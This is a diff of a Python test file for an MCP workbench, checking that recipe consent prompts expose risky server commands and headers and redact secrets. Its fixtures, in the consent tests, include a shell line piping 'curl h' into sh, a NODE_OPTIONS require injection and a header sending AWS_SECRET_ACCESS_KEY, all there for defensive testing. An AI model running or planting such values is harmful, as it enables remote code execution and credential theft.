@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import sys
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -18,11 +19,11 @@ from mcp_workbench.errors import (
     ConfigUntrusted,
     ParameterMissing,
     RecipeInvalid,
-    ServerNotFound,
     ToolNotFound,
     UsageInvalid,
     VariableUnset,
 )
+from mcp_workbench.recipes.running import prepared
 from tests.recipes.notebooks import AGENT, PROMPT, STEPS, notebook, replaced
 
 DEMO = {"command": "python", "args": ["-m", "mcp_workbench.demo"]}
@@ -95,7 +96,8 @@ async def test_notebook_and_recipe_make_the_same_calls(shared: Workbench, tmp_pa
     assert len(calls(after)) == 2
     assert (before.output, after.output) == ("Three words.", "Three words.")
     assert before.trace[0] == after.trace[0]
-    assert loaded.agent(shared, {"phrase": "x"}).instructions == told
+    async with prepared(loaded, shared, {"phrase": "x"}) as ready:
+        assert ready.agent.instructions == told
 
 
 async def test_events_come_in_order_and_the_answer_is_the_models(shared: Workbench) -> None:
@@ -132,6 +134,11 @@ async def test_consent_is_refused_remembered_and_asked_again_after_a_change(
     await recipe(**code).run(shared, trust=True)
     await recipe(**code, description="Words change nothing.").run(shared)
     for changed in (
+        {**code, "approved": ["demo.add", "demo.echo"]},
+        {**code, "approve": "never"},
+        {**code, "parameters": [{"key": "two", "default": "x"}]},
+        {**code, "python_tools": []},
+        {**code, "servers": {"demo": {**DEMO, "include_tools": ["add"]}}},
         {**code, "code": "def two() -> int:\n    return 3\n"},
         {**code, "setup": "import os"},
         {**code, "servers": {"demo": {**DEMO, "args": [*DEMO["args"], "-x"]}}},
@@ -147,20 +154,86 @@ async def test_consent_is_refused_remembered_and_asked_again_after_a_change(
         recipe(**code).require_consent()
 
 
-def test_a_model_that_the_user_names_needs_no_consent() -> None:
+async def test_a_model_that_the_user_names_needs_no_consent() -> None:
     own = recipe(servers=None, approved=None, model="any@http://h.example/v1")
     assert own.consent().what == ("asks the model any at http://h.example/v1",)
-    assert not own.with_model("any@http://h.example/v1").consent().needed
+    assert not own.consent("any@http://h.example/v1").needed
+    async with Workbench() as workbench:
+        run = await own.run(workbench, model="scripted:steps.yaml")
+    assert run.scripted
 
 
-def test_values_of_the_environment_and_of_headers_are_shown_to_nobody() -> None:
+def test_headers_are_agreed_to_with_their_words() -> None:
+    def web(**headers: str) -> Recipe:
+        entry = {"transport": "http", "url": "https://h.example/mcp", "headers": headers}
+        return recipe(servers={"web": entry}, approved=None)
+
+    web(**{"X-Team": "blue"}).require_consent(trust=True)
+    with pytest.raises(ConfigUntrusted) as caught:
+        web(**{"X-Team": "${AWS_SECRET_ACCESS_KEY}"}).require_consent()
+    assert "reaches https://h.example/mcp" in caught.value.what
+    assert "sends your AWS_SECRET_ACCESS_KEY" in caught.value.what
+
+
+def test_defaults_are_agreed_to_where_code_can_use_them_and_values_are_free() -> None:
+    plain = recipe(parameters=[{"key": "cmd", "default": "echo"}])
+    other = recipe(parameters=[{"key": "cmd", "default": "rm"}])
+    assert plain.consent() == other.consent()
+    code = recipe(parameters=[{"key": "cmd", "default": "echo"}], setup="import os")
+    code.require_consent(trust=True)
+    code.with_values({"cmd": "rm"}).require_consent()
+    with pytest.raises(ConfigUntrusted):
+        recipe(parameters=[{"key": "cmd", "default": "rm"}], setup="import os").require_consent()
+
+
+def test_code_is_agreed_to_for_the_directory_with_its_modules(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for name in ("one", "two"):
+        (tmp_path / name).mkdir()
+    (tmp_path / "link").symlink_to("one")
+    code = recipe(servers=None, approved=None, setup="import helper")
+    started = recipe(servers={"demo": {**DEMO, "cwd": str(tmp_path / "link")}})
+    monkeypatch.chdir(tmp_path / "one")
+    code.require_consent(trust=True)
+    before = started.consent()
+    monkeypatch.chdir(tmp_path / "link")
+    code.require_consent()
+    monkeypatch.chdir(tmp_path / "two")
+    with pytest.raises(ConfigUntrusted):
+        code.require_consent()
+    assert started.consent() == before
+    (tmp_path / "link").unlink()
+    (tmp_path / "link").symlink_to("two")
+    assert started.consent() != before
+
+
+def test_who_agrees_sees_everything_but_secrets() -> None:
+    line = "echo " + "a" * 300 + "; token=$(curl h|sh)"
     servers = {
-        "a": {**DEMO, "env": {"LEVEL": "secret-ish"}},
-        "b": {"transport": "http", "url": "http://me:pw@h/?k=1", "headers": {"X-Team": "blue"}},
+        "a": {"command": "sh", "args": ["-c", line], "env": {"NODE_OPTIONS": "--require ./x.js"}},
+        "b": {**DEMO, "env": {"KEY": "s3cr3t", "ZONE": "eu", "OTHER_KEY": "${MY_KEY}"}},
+        "c": {"transport": "http", "url": "http://me:s3cr3t@h/?zone=eu&key=s3cr3t"},
+        "d": {"command": "x", "args": ["y" * 5000 + "evil"]},
     }
-    told = "\n".join(recipe(servers=servers, approved=None).consent().what)
-    assert ("LEVEL" in told, "X-Team" in told) == (True, True)
-    assert not [word for word in ("secret-ish", "blue", "pw", "k=1") if word in told]
+    with pytest.raises(ConfigUntrusted) as caught:
+        recipe(servers=servers, approved=None, approve="never").require_consent()
+    told = caught.value.what.splitlines()[1:]
+    assert told[0] == f"  server a: starts sh -c '{line}' with NODE_OPTIONS=--require ./x.js"
+    assert told[1].endswith("KEY=…, ZONE=eu, OTHER_KEY=${MY_KEY}; hands over your MY_KEY")
+    assert told[2] == "  server c: reaches http://…@h/?zone=eu&key=…"
+    assert told[3].endswith("more characters, see the recipe")
+    assert told[4] == "  calls every tool without asking"
+    assert "s3cr3t" not in caught.value.what
+    approved = recipe().consent().what
+    assert approved[-1] == "calls without asking: demo.add"
+
+
+def test_the_file_to_read_is_named(tmp_path: Path) -> None:
+    loaded = Recipe.load(recipe().save(tmp_path / "sum.yaml"))
+    with pytest.raises(ConfigUntrusted) as caught:
+        loaded.require_consent()
+    assert "sum.yaml, then run it once with --trust" in caught.value.hint
 
 
 @pytest.mark.parametrize(
@@ -181,11 +254,8 @@ def test_values_of_the_environment_and_of_headers_are_shown_to_nobody() -> None:
             "not one of a, b",
         ),
         ({"model": None}, {}, UsageInvalid, "names no model"),
-        ({"approved": ["dmo.add"]}, {}, ServerNotFound, "'dmo'"),
-        ({"names": {"dmo.add": "add"}}, {}, ServerNotFound, "'dmo'"),
-        ({"approved": ["lost"]}, {}, ToolNotFound, "'lost'"),
         ({"requires": ["no-such-package-here"]}, {}, RecipeInvalid, "not installed"),
-        ({"requires": ["pyyaml>=99"]}, {}, RecipeInvalid, "is installed"),
+        ({"requires": ["x; python_version < '3'", "pyyaml>=99"]}, {}, RecipeInvalid, "pyyaml>=99"),
         ({"servers": {"demo": {**TOUCH, "env": {"A": "${UNSET_HERE}"}}}}, {}, VariableUnset, "A"),
     ],
 )
@@ -224,9 +294,10 @@ async def test_a_tool_that_its_server_does_not_have_is_named(
 async def test_only_the_tools_that_are_named_are_given_to_the_model(shared: Workbench) -> None:
     some = recipe(servers={"demo": {**DEMO, "include_tools": ["add", "echo"]}})
     rest = recipe(servers={"demo": {**DEMO, "exclude_tools": ["echo"]}})
-    names = [tool.name for tool in (await some.agent(shared).toolbox()).tools]
-    assert names == ["add", "echo"]
-    others = [tool.name for tool in (await rest.agent(shared).toolbox()).tools]
+    async with prepared(some, shared, {}, trust=True) as ready:
+        assert [tool.name for tool in (await ready.agent.toolbox()).tools] == ["add", "echo"]
+    async with prepared(rest, shared, {}, trust=True) as ready:
+        others = [tool.name for tool in (await ready.agent.toolbox()).tools]
     assert "add" in others
     assert "echo" not in others
 
@@ -266,7 +337,7 @@ async def test_code_sees_parameters_and_only_its_own_module(shared: Workbench) -
 
 async def test_code_that_raises_is_told_with_its_line(shared: Workbench) -> None:
     with pytest.raises(CodeFailed) as caught:
-        recipe(setup="x = 1\nx / 0\n").agent(shared)
+        await recipe(setup="x = 1\nx / 0\n").run(shared, trust=True)
     assert caught.value.what == "recipe sum: setup, line 2: ZeroDivisionError: division by zero"
     assert caught.value.reason == "ZeroDivisionError"
     cause = caught.value.__cause__
@@ -274,6 +345,46 @@ async def test_code_that_raises_is_told_with_its_line(shared: Workbench) -> None
     import traceback
 
     assert "x / 0" in "".join(traceback.format_exception(cause))
+
+
+@pytest.mark.parametrize("end", ["sys.exit()", "raise GeneratorExit"])
+async def test_code_that_ends_the_program_is_a_failure(shared: Workbench, end: str) -> None:
+    with pytest.raises(CodeFailed, match="setup, line 2") as caught:
+        await recipe(setup=f"import sys\n{end}").run(shared, trust=True)
+    assert caught.value.reason in ("SystemExit", "GeneratorExit")
+
+
+async def test_code_can_be_given_up(shared: Workbench) -> None:
+    forever = recipe(setup="while True:\n    pass\n")
+    with pytest.raises(TimeoutError):
+        async with asyncio.timeout(0.5):
+            await forever.run(shared, trust=True)
+
+
+async def test_two_runs_of_one_name_have_modules_of_their_own(shared: Workbench) -> None:
+    hints = "import typing\nclass K:\n    x: 'T'\ndef kind() -> str:\n"
+    hints += "    'Says it.'\n    return typing.get_type_hints(K)['x'].__name__\n"
+
+    def of(name: str) -> Recipe:
+        return recipe(setup=f"class {name}: ...\nT = {name}\n", code=hints, python_tools=["kind"])
+
+    before = set(sys.modules)
+    async with (
+        prepared(of("A"), shared, {}, trust=True) as one,
+        prepared(of("B"), shared, {}, trust=True) as other,
+    ):
+        tools = [(await ready.agent.toolbox()).tools[0] for ready in (one, other)]
+        assert [(await tool.call({})).value for tool in tools] == ["A", "B"]
+    assert not [name for name in set(sys.modules) - before if name.startswith("recipe_")]
+
+
+async def test_a_recipe_that_cannot_begin_leaves_no_servers_behind(shared: Workbench) -> None:
+    more = {"demo": DEMO, "more": DEMO}
+    with pytest.raises(CodeFailed):
+        await recipe(servers=more, setup="1 / 0").run(shared, trust=True)
+    with pytest.raises(ConfigInvalid):
+        await recipe(servers={"more": DEMO, "demo": TOUCH}).run(shared, trust=True)
+    assert list(shared.servers) == ["demo"]
 
 
 async def test_another_server_of_that_name_is_not_replaced(shared: Workbench) -> None:
@@ -296,12 +407,14 @@ async def test_values_fill_the_prompt_once(shared: Workbench) -> None:
     assert run.trace[0]["text"] == "{{ n }}, 2, {{ a }}"
 
 
-def test_a_recipe_with_other_defaults_needs_fewer_values() -> None:
+async def test_a_recipe_that_is_given_values_needs_fewer(shared: Workbench) -> None:
     keys = [{"key": "a", "required": True}, {"key": "b", "required": True}]
-    given = recipe(parameters=keys).with_defaults({"a": "x"})
-    assert [(one.required, one.default) for one in given.parameters] == [(False, "x"), (True, None)]
+    given = recipe(parameters=keys, prompt="{{ a }}{{ b }}").with_values({"a": "x"})
+    assert (await given.run(shared, trust=True, b="y")).trace[0]["text"] == "xy"
+    with pytest.raises(ParameterMissing, match="the parameter b"):
+        await given.run(shared)
     with pytest.raises(UsageInvalid):
-        given.with_defaults({"c": 1})
+        given.with_values({"c": 1})
 
 
 def test_the_kernels_workbench_is_used_where_none_is_given(tmp_path: Path) -> None:
@@ -317,6 +430,6 @@ def test_the_kernels_workbench_is_used_where_none_is_given(tmp_path: Path) -> No
 def test_an_agent_that_names_a_model_by_a_parameter_says_so(tmp_path: Path) -> None:
     call = "Agent(phrase, tools=[words])"
     found = Recipe.from_notebook(notebook(tmp_path, *replaced(AGENT, call)))
-    assert found.model is None
-    assert any("model is left out: phrase is no literal" in note for note in found.notes)
+    assert found.document.model is None
+    assert any("model is left out: it is no literal" in note for note in found.notes)
     assert found.document.prompt == PROMPT
